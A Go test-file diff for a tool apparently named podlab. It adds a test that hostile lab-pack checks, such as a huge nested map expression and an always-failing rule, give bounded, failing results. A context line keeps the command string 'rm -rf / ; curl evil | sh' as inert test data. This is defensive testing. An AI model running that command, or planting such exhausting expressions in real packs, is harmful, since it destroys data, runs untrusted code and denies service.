@@ -5,6 +5,7 @@ import (
 	"testing"
 	"testing/fstest"
 
+	"podlab/netview"
 	"podlab/packs"
 )
 
@@ -110,5 +111,35 @@ func TestRunNeverExecuted(t *testing.T) {
 	}
 	if c := pk.Sections[0].Steps[0].Commands[0]; c.Text != "rm -rf / ; curl evil | sh" {
 		t.Errorf("the command reads %q", c.Text)
+	}
+}
+
+// TestHostileChecks: a pack's lab checks cannot make `podlab check` run
+// or print without end: every element of a long list failing lists a
+// bounded number, and a check that cannot run (or is not reached in
+// time) fails rather than passes.
+func TestHostileChecks(t *testing.T) {
+	m := copyPack(t, packs.FS, BuiltinName)
+	edit(t, m, "p/pack.yaml", "  - name: pod\n    tags: [pod-ip]\n    rules:\n", `  - name: pod
+    tags: [pod-ip]
+    rules:
+      - fail: size([0,1,2,3,4,5,6,7,8,9].map(a, [0,1,2,3,4,5,6,7,8,9].map(b, [0,1,2,3,4,5,6,7,8,9].map(c, [0,1,2,3,4,5,6,7,8,9].map(d, [0,1,2,3,4,5,6,7,8,9].map(e, [0,1,2,3,4,5,6,7,8,9].map(f, [0,1,2,3,4,5,6,7,8,9].map(g, a)))))))) > 0
+        say: never said
+      - for: b in Blocks
+        fail: "true"
+        say: block {{.b.cidr}} is always missing
+`)
+	pk, errs := Load(m, "p")
+	if len(errs) > 0 {
+		t.Fatal(errs)
+	}
+	p := bigNode(t, 200)
+	a := netview.Analyze(p)
+	got := pk.runChecks(p, &a)["pod"]
+	if len(got) != MaxMissing+1 {
+		t.Fatalf("%d findings, want %d listed and the count of the rest: %q", len(got), MaxMissing, got[len(got)-3:])
+	}
+	if !strings.Contains(got[0], "could not run") || got[MaxMissing] != "and 154 more" {
+		t.Errorf("the findings read %q ... %q", got[0], got[MaxMissing])
 	}
 }
